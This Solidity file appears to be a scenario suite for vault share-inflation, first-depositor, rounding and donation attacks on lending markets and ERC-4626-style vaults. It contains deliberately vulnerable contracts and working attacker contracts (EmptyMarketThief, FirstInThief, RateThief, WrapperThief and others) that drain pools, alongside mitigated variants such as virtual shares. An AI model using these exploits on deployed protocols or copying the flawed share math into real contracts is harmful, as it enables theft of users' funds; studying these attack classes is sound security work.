// SPDX-License-Identifier: Apache-2.0 OR MIT
pragma solidity ^0.8.30;

import "./Shares.sol";

/// A market's own token for a coin that was put in. What it holds, whoever brought it, is shared.
contract Receipt is Coin {
    Coin public immutable coin;
    Pool public immutable pool;

    constructor(Coin coin_) Coin("RCP") {
        coin = coin_;
        pool = Pool(msg.sender);
    }

    function worth(uint256 units) public view returns (uint256) {
        return totalSupply == 0 ? units : units * coin.balanceOf(address(this)) / totalSupply;
    }

    function supply(uint256 amount) external returns (uint256 units) {
        uint256 held = coin.balanceOf(address(this));
        units = totalSupply == 0 ? amount : amount * totalSupply / held;
        coin.transferFrom(msg.sender, address(this), amount);
        _add(msg.sender, units);
    }

    /// Pays an amount for the units that it is worth. Parts of a unit are the caller's.
    function redeemUnderlying(uint256 amount) external {
        uint256 units = amount * totalSupply / coin.balanceOf(address(this));
        _take(msg.sender, units);
        require(pool.covered(msg.sender), "not covered");
        coin.transfer(msg.sender, amount);
    }
}

/// Lends cash against receipts, one for one.
contract Pool {
    Coin public immutable cash;
    Receipt public immutable receipt;
    mapping(address => uint256) public debts;

    constructor(Coin cash_, Coin coin) {
        cash = cash_;
        receipt = new Receipt(coin);
    }

    function covered(address who) public view returns (bool) {
        return debts[who] <= receipt.worth(receipt.balanceOf(who)) * 3 / 4;
    }

    function borrow(uint256 amount) external {
        debts[msg.sender] += amount;
        require(covered(msg.sender), "not covered");
        cash.transfer(msg.sender, amount);
    }
}

/// Makes two units of an empty market worth a fortune, borrows on them, and takes the fortune back
/// for one of them.
contract EmptyMarketThief is Flash {
    Pool immutable pool;
    Lender immutable lender;

    constructor(Pool pool_, Lender lender_) {
        (pool, lender) = (pool_, lender_);
    }

    function run() external payable {
        if (address(lender) == address(0)) borrowed(1_000 ether);
        else lender.flashLoan(this, pool.receipt().coin(), 1_000 ether, "");
        Coin cash = pool.cash();
        cash.transfer(tx.origin, cash.balanceOf(address(this)));
    }

    function borrowed(uint256 amount) internal override {
        Receipt receipt = pool.receipt();
        Coin coin = receipt.coin();
        coin.approve(address(receipt), amount);
        receipt.supply(1 ether);
        receipt.redeemUnderlying(1 ether - 2);
        coin.transfer(address(receipt), coin.balanceOf(address(this)));
        pool.borrow(pool.cash().balanceOf(address(pool)));
        receipt.redeemUnderlying(amount);
    }
}

abstract contract EmptyMarketScene is Scene {
    function set(bool loan) internal {
        Coin cash = new Coin("CSH");
        Coin coin = new Coin("COL");
        Pool pool = new Pool(cash, coin);
        cash.mint(address(pool), 300 ether);
        Lender lender = loan ? new Lender() : Lender(address(0));
        EmptyMarketThief thief = new EmptyMarketThief(pool, lender);
        coin.mint(address(thief), 1);
        coin.mint(loan ? address(lender) : address(thief), 1_000 ether);
        actor = address(thief);
    }
}

contract EmptyMarket is EmptyMarketScene {
    constructor() payable {
        set(true);
    }
}

contract EmptyMarketOwn is EmptyMarketScene {
    constructor() payable {
        set(false);
    }
}

/// May hold so much of a coin and no more. Who gives the coin away gets past that.
contract CappedThief {
    Pool immutable pool;
    Coin immutable coin;

    constructor(Pool pool_) {
        pool = pool_;
        coin = pool_.receipt().coin();
    }

    function run() external payable {
        Receipt receipt = pool.receipt();
        Coin cash = pool.cash();
        coin.approve(address(receipt), 10 ether);
        receipt.supply(10 ether);
        pool.borrow(7 ether);
        for (uint256 i = 0; i < 3; i++) {
            coin.transfer(address(receipt), 20 ether);
            pool.borrow(15 ether);
        }
        receipt.redeemUnderlying(0);
        cash.transfer(tx.origin, cash.balanceOf(address(this)));
    }
}

contract CapSteppedOver is Scene {
    constructor() payable {
        Coin cash = new Coin("CSH");
        Coin coin = new Coin("THIN");
        Pool pool = new Pool(cash, coin);
        cash.mint(address(pool), 300 ether);
        CappedThief thief = new CappedThief(pool);
        coin.mint(address(thief), 70 ether);
        actor = address(thief);
    }
}

/// A vault with shares, by the usual interface.
contract Vault4626 is Coin {
    Coin public immutable asset;
    uint256 public immutable virtualShares;

    constructor(Coin asset_, uint256 virtualShares_) Coin("V46") {
        (asset, virtualShares) = (asset_, virtualShares_);
    }

    function totalAssets() public view returns (uint256) {
        return asset.balanceOf(address(this));
    }

    function convertToShares(uint256 assets) public view returns (uint256) {
        if (virtualShares > 0) return assets * (totalSupply + virtualShares) / (totalAssets() + 1);
        return totalSupply == 0 ? assets : assets * totalSupply / totalAssets();
    }

    function convertToAssets(uint256 shares) public view returns (uint256) {
        if (virtualShares > 0) return shares * (totalAssets() + 1) / (totalSupply + virtualShares);
        return totalSupply == 0 ? shares : shares * totalAssets() / totalSupply;
    }

    function deposit(uint256 assets, address receiver) external returns (uint256 shares) {
        shares = convertToShares(assets);
        asset.transferFrom(msg.sender, address(this), assets);
        _add(receiver, shares);
    }

    function redeem(uint256 shares, address receiver, address owner) external returns (uint256 assets) {
        require(owner == msg.sender, "not the owner");
        assets = convertToAssets(shares);
        _take(owner, shares);
        asset.transfer(receiver, assets);
    }
}

/// Keeps people's savings, and puts what came in into a vault when anyone asks it to.
contract Compounder {
    Vault4626 public immutable vault;

    constructor(Vault4626 vault_) {
        vault = vault_;
    }

    function invest() external {
        Coin asset = vault.asset();
        uint256 all = asset.balanceOf(address(this));
        asset.approve(address(vault), all);
        vault.deposit(all, address(this));
    }
}

/// Is first in an empty vault, and lets the next deposit buy nothing.
contract FirstInThief {
    Compounder immutable savings;

    constructor(Compounder savings_) {
        savings = savings_;
    }

    function run() external payable {
        Vault4626 vault = savings.vault();
        Coin asset = vault.asset();
        uint256 most = asset.balanceOf(address(this)) - 1;
        asset.approve(address(vault), 1);
        uint256 mine = vault.deposit(1, address(this));
        asset.transfer(address(vault), most);
        savings.invest();
        vault.redeem(mine, address(this), address(this));
        asset.transfer(tx.origin, asset.balanceOf(address(this)));
    }
}

abstract contract FirstInScene is Scene {
    function set(uint256 virtualShares, uint256 gift) internal {
        Coin asset = new Coin("AST");
        Compounder savings = new Compounder(new Vault4626(asset, virtualShares));
        asset.mint(address(savings), 100 ether);
        FirstInThief thief = new FirstInThief(savings);
        asset.mint(address(thief), gift);
        actor = address(thief);
    }
}

contract FirstIn is FirstInScene {
    constructor() payable {
        set(0, 200 ether);
    }
}

/// The gift is so small that the next deposit buys one share, which is less than it is worth.
contract FirstInHalf is FirstInScene {
    constructor() payable {
        set(0, 60 ether);
    }
}

/// The same, where the vault counts shares that nobody has: it costs the thief.
contract FirstInForNothing is FirstInScene {
    constructor() payable {
        set(1e6, 200 ether);
    }
}

/// Lends against a vault's shares at a rate that becomes nothing when shares are dear enough.
contract RateMarket {
    Vault4626 public immutable vault;
    Coin public immutable cash;
    mapping(address => uint256) public collateral;
    mapping(address => uint256) public debts;

    constructor(Vault4626 vault_, Coin cash_) {
        (vault, cash) = (vault_, cash_);
    }

    function addCollateral(uint256 shares) external {
        vault.transferFrom(msg.sender, address(this), shares);
        collateral[msg.sender] += shares;
    }

    function borrow(uint256 amount) external {
        debts[msg.sender] += amount;
        uint256 rate = 1e36 / vault.convertToAssets(1e18);
        require(debts[msg.sender] * rate / 1e18 <= collateral[msg.sender] * 95 / 100, "insolvent");
        cash.transfer(msg.sender, amount);
    }
}

/// Gives the empty vault so much that the rate is nothing, and borrows all there is on one share.
contract RateThief {
    RateMarket immutable market;
    bool immutable sharesFirst;

    constructor(RateMarket market_, bool sharesFirst_) {
        (market, sharesFirst) = (market_, sharesFirst_);
    }

    function run() external payable {
        Vault4626 vault = market.vault();
        Coin asset = vault.asset();
        asset.approve(address(vault), 1);
        if (!sharesFirst) asset.transfer(address(vault), 20 ether);
        uint256 mine = vault.deposit(1, address(this));
        if (sharesFirst) asset.transfer(address(vault), 20 ether);
        vault.approve(address(market), mine);
        market.addCollateral(mine);
        Coin cash = market.cash();
        market.borrow(cash.balanceOf(address(market)));
        cash.transfer(tx.origin, cash.balanceOf(address(this)));
    }
}

abstract contract RateScene is Scene {
    function set(bool sharesFirst) internal {
        Coin asset = new Coin("AST");
        Coin cash = new Coin("CSH");
        RateMarket market = new RateMarket(new Vault4626(asset, 0), cash);
        cash.mint(address(market), 100_000 ether);
        RateThief thief = new RateThief(market, sharesFirst);
        asset.mint(address(thief), 50 ether);
        actor = address(thief);
    }
}

contract RateOfNothing is RateScene {
    constructor() payable {
        set(true);
    }
}

contract RateGiftFirst is RateScene {
    constructor() payable {
        set(false);
    }
}

/// Makes shares dear by a gift between two debts, and takes the gift back by those that it has kept.
contract WrapperThief {
    ShareMarket immutable market;

    constructor(ShareMarket market_) {
        market = market_;
    }

    function run() external payable {
        Shares shares = market.shares();
        Coin coin = shares.coin();
        coin.approve(address(shares), 50 ether);
        uint256 mine = shares.deposit(50 ether);
        shares.approve(address(market), mine / 5);
        market.put(mine / 5);
        market.borrow(9 ether);
        coin.transfer(address(shares), 100 ether);
        market.borrow(19 ether);
        shares.redeem(mine - mine / 5);
        Coin cash = market.cash();
        cash.transfer(tx.origin, cash.balanceOf(address(this)));
    }
}

contract WrapperInflated is Scene {
    constructor() payable {
        Coin coin = new Coin("USD");
        Coin cash = new Coin("CSH");
        Shares shares = new Shares(coin);
        ShareMarket market = new ShareMarket(cash, shares);
        cash.mint(address(market), 300 ether);
        coin.mint(address(this), 1 ether);
        coin.approve(address(shares), 1 ether);
        shares.deposit(1 ether);
        WrapperThief thief = new WrapperThief(market);
        coin.mint(address(thief), 150 ether);
        actor = address(thief);
    }
}

/// Pays whoever brings a vault its earnings.
contract Bounties {
    Coin public immutable coin;

    constructor(Coin coin_) {
        coin = coin_;
    }

    function pay(address to) external {
        coin.transfer(to, coin.balanceOf(address(this)));
    }
}

/// A vault whose earnings are brought to it.
contract TendedVault is Vault4626 {
    Bounties public immutable bounties;
    uint256 public reported;

    constructor(Coin asset_, Bounties bounties_) Vault4626(asset_, 1e6) {
        bounties = bounties_;
    }

    function tend() external {
        reported = totalAssets();
    }

    function report() external {
        require(totalAssets() > reported, "nothing earned");
        reported = totalAssets();
        bounties.pay(msg.sender);
    }
}

abstract contract EarningsScene is Scene {
    function set(uint256 bounty) internal {
        Coin asset = new Coin("AST");
        Coin prize = new Coin("PRZ");
        Bounties bounties = new Bounties(prize);
        prize.mint(address(bounties), bounty);
        TendedVault vault = new TendedVault(asset, bounties);
        asset.mint(address(vault), 100 ether);
        Script script = new Script();
        asset.mint(address(script), 5 ether);
        script.then(address(vault), abi.encodeCall(vault.tend, ()));
        script.then(address(asset), abi.encodeCall(asset.transfer, (address(vault), 5 ether)));
        script.then(address(vault), abi.encodeCall(vault.report, ()));
        actor = address(script);
    }
}

contract EarningsBrought is EarningsScene {
    constructor() payable {
        set(0);
    }
}

contract EarningsPaidFor is EarningsScene {
    constructor() payable {
        set(1 ether);
    }
}

/// Opens a vault so that nobody can be first any more: a few shares go where nobody has them, and a
/// gift with them.
contract VaultSeeded is Scene {
    constructor() payable {
        Coin asset = new Coin("AST");
        Vault4626 vault = new Vault4626(asset, 0);
        Script script = new Script();
        asset.mint(address(script), 20 ether);
        script.then(address(asset), abi.encodeCall(asset.approve, (address(vault), 20 ether)));
        script.then(address(vault), abi.encodeCall(vault.deposit, (1 ether, address(0xdead))));
        script.then(address(asset), abi.encodeCall(asset.transfer, (address(vault), 1 ether)));
        script.then(address(vault), abi.encodeCall(vault.deposit, (8 ether, address(script))));
        script.then(address(vault), abi.encodeCall(vault.redeem, (1 ether, address(script), address(script))));
        actor = address(script);
    }
}

/// Puts in, gives all others a present, and goes with less than it came with.
contract GiftAndLeave is Scene {
    constructor() payable {
        Coin asset = new Coin("AST");
        Vault4626 vault = new Vault4626(asset, 1e6);
        asset.mint(address(this), 100 ether);
        asset.approve(address(vault), 100 ether);
        vault.deposit(100 ether, address(this));
        Script script = new Script();
        asset.mint(address(script), 20 ether);
        script.then(address(asset), abi.encodeCall(asset.approve, (address(vault), 10 ether)));
        script.then(address(vault), abi.encodeCall(vault.deposit, (10 ether, address(script))));
        script.then(address(asset), abi.encodeCall(asset.transfer, (address(vault), 10 ether)));
        script.then(address(vault), abi.encodeCall(vault.redeem, (1e6 * 9 ether, address(script), address(script))));
        actor = address(script);
    }
}
